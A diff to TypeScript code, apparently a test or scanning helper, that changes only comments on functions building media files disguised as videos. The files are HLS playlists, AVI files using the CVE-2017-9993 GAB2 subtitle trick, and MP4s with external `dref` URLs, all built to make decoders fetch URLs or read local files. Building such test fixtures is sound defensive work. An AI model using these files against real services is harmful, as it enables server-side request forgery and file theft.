@@ -1,4 +1,4 @@
-/** Files that lead careless decoders to an address, or to a file of the machine, each under the name of a video. */
+/** Files, named like videos, that make careless decoders request a URL or read a local file. */
 export function luringFiles(host: string): ReadonlyMap<string, Buffer> {
   const playlist = (target: string) => `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${target}\n#EXT-X-ENDLIST\n`;
   const texts: readonly (readonly [string, string])[] = [
@@ -43,7 +43,7 @@ function riff(id: string, ...parts: readonly Buffer[]): Buffer {
   return Buffer.concat([Buffer.from(id), uint32(body.length), body, Buffer.alloc(body.length % 2)]);
 }
 
-/** The form of CVE-2017-9993: subtitles in a `GAB2` chunk, which a decoder looks into by itself. */
+/** As in CVE-2017-9993: subtitles in a `GAB2` chunk, which decoders open by themselves. */
 function aviWithSubtitles(playlist: string): Buffer {
   const text = Buffer.from(playlist);
   const name = Buffer.from("a\0", "utf16le");
@@ -72,7 +72,7 @@ function box(type: string, ...parts: readonly Buffer[]): Buffer {
   return Buffer.concat([head, body]);
 }
 
-/** A track whose samples lie at an address (`dref`, `url `), as ISO/IEC 14496-12 allows. */
+/** A track whose samples are at a URL (`dref`, `url `), as ISO/IEC 14496-12 allows. */
 function mp4WithReference(url: string): Buffer {
   const full = (...bytes: readonly number[]) => Buffer.from([0, 0, 0, 0, ...bytes]);
   const reference = box("dref", full(0, 0, 0, 1), box("url ", full(), Buffer.from(`${url}\0`)));
